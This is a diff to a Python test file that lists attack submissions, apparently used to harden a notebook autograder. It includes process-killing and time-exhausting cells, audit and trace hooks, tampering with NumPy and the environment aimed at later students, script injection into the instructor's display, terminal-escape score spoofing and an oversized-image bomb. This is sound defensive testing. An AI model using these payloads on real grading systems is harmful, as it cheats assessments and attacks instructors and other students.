         "holds_the_interpreter",
@@ -796,14 +887,16 @@ ATTACKS = [
     Attack(
         "sleeps_in_many_cells",
         "spend the time of every cell",
-        cells=("import time",) + ("time.sleep(60)",) * 12,
+        cells=("import time", *["time.sleep(60)"] * 12),
         rest=-1.0,  # its submission's time is spent
     ),
     Attack(
         "dies_again_and_again",
         "end every process that replays its cells",
-        cells=("import os, time\nstart = time.time()",)
-        + tuple(f"if time.time() - start > {0.05 * k}: os._exit(0)" for k in range(40)),
+        cells=(
+            "import os, time\nstart = time.time()",
+            *(f"if time.time() - start > {0.05 * k}: os._exit(0)" for k in range(40)),
+        ),
         rest=-1.0,
     ),
     # --- later
@@ -813,15 +906,18 @@ ATTACKS = [
         cells=(
             "import atexit, gc, sys, threading, weakref\n"
             "class Late:\n    def __del__(self): open('GOT', 'w').write('x'); print('late')\n"
-            "late = Late()\natexit.register(print, 'late')\nthreading.Thread(target=threading.Event().wait, daemon=False).start()\n"
-            "gc.callbacks.append(lambda *a: None)\nsys.unraisablehook = sys.excepthook = lambda *a: print(2.0)",
+            "late = Late()\natexit.register(print, 'late')\n"
+            "threading.Thread(target=threading.Event().wait, daemon=False).start()\n"
+            "gc.callbacks.append(lambda *a: None)\n"
+            "sys.unraisablehook = sys.excepthook = lambda *a: print(2.0)",
         ),
     ),
     Attack(
         "audit_hook",
         "make every audited action of the process fail",
         cells=(
-            "import sys\ndef hook(name, arguments):\n    if name in ('exec', 'compile', 'open', 'import'): raise RuntimeError(2.0)\n"
+            "import sys\ndef hook(name, arguments):\n"
+            "    if name in ('exec', 'compile', 'open', 'import'): raise RuntimeError(2.0)\n"
             "sys.addaudithook(hook)",
         ),
         rest=0.0,
@@ -830,7 +926,8 @@ ATTACKS = [
         "traces",
         "follow every call of the process by settrace",
         cells=(
-            "import sys\nseen = []\ndef trace(frame, event, argument):\n    seen.append(frame.f_code.co_name)\n    return trace\n"
+            "import sys\nseen = []\ndef trace(frame, event, argument):\n"
+            "    seen.append(frame.f_code.co_name)\n    return trace\n"
             "sys.settrace(trace)\nsys.setprofile(lambda *a: None)",
             "print('CAN' + 'ARY-' in repr(seen))",
         ),
@@ -839,9 +936,9 @@ ATTACKS = [
         "poisons_the_next_student",
         "change NumPy, IPython, files and environment for whoever comes next",
         cells=(
-            "import os, sys\nnp.asarray = lambda *a, **k: 'GOT'\nnp.ndarray.__pow__ if True else None\n"
+            "import os, sys\nnp.asarray = lambda *a, **k: 'GOT'\n"
             "os.environ['PYTHONSTARTUP'] = 'GOT'\nsys.path.insert(0, os.getcwd())\n"
-            "get_ipython().events.register('pre_run_cell', lambda *a: print('GOT', end=''[:0]) if False else None)\n"
+            "get_ipython().events.register('post_run_cell', lambda *a: print(2.0))\n"
             "try:\n    open(np.__file__, 'a').write('GOT')\nexcept OSError as error: print(error)\n"
             "import matplotlib\nmatplotlib.rcParams['figure.dpi'] = 1",
         ),
@@ -853,16 +950,21 @@ ATTACKS = [
         "put HTML, JavaScript and SVG before the instructor",
         cells=(
             "from IPython.display import HTML, SVG, Javascript, Image, publish_display_data, Markdown\n"
-            "display(HTML('<script>GOT_ACTIVE()</script>'), Javascript('GOT_ACTIVE()'), Markdown('<script>GOT_ACTIVE()</script>'))\n"
+            "display(HTML('<script>GOT_ACTIVE()</script>'), Javascript('GOT_ACTIVE()'), "
+            "Markdown('<script>GOT_ACTIVE()</script>'))\n"
             "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>GOT_ACTIVE()</script></svg>'))\n"
-            "publish_display_data({'text/html': '<script>GOT_ACTIVE()</script>', 'application/javascript': 'GOT_ACTIVE()', 'text/plain': 'x',\n"
-            "  'image/png': 'data:text/html,<script>GOT_ACTIVE()</script>', 'image/jpeg': '\"><script>GOT_ACTIVE()</script>'})",
+            "publish_display_data({'text/html': '<script>GOT_ACTIVE()</script>', "
+            "'application/javascript': 'GOT_ACTIVE()', 'text/plain': 'x',\n"
+            "  'image/png': 'data:text/html,<script>GOT_ACTIVE()</script>', 'image/jpeg': "
+            "'\"><script>GOT_ACTIVE()</script>'})",
         ),
     ),
     Attack(
         "terminal_controls",
         "put control characters into messages and outputs",
-        "def square(x):\n    raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202e2 of 2\\u2066\\r\\x08 points')",
+        "def square(x):\n"
+        "    raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202e2 of 2\\u2066\\r\\x08 "
+        "points')",
         cells=("print('\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\u202eabc')",),
     ),
     Attack(
@@ -880,10 +982,14 @@ ATTACKS = [
         "show a picture of 10**10 pixels, and 30 MiB of pictures",
         cells=(
             "import base64, os, struct, zlib\nfrom IPython.display import publish_display_data\n"
-            "def chunk(kind, data): return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))\n"
-            "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 100_000, 100_000, 1, 0, 0, 0, 0)) + chunk(b'IEND', b'')\n"
+            "def chunk(kind, data): return struct.pack('>I', len(data)) + kind + data + "
+            "struct.pack('>I', zlib.crc32(kind + data))\n"
+            "png = b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 100_000, "
+            "100_000, 1, 0, 0, 0, 0)) + chunk(b'IEND', b'')\n"
             "publish_display_data({'image/png': base64.b64encode(png).decode(), 'text/plain': 'giant'})\n"
-            "for _ in range(30):\n    publish_display_data({'image/png': base64.b64encode(png[:8] + os.urandom(1 << 20)).decode()})",
+            "for _ in range(30):\n"
+            "    publish_display_data({'image/png': base64.b64encode(png[:8] + os.urandom(1 << "
+            "20)).decode()})",
         ),
     ),
     # --- the notebook itself
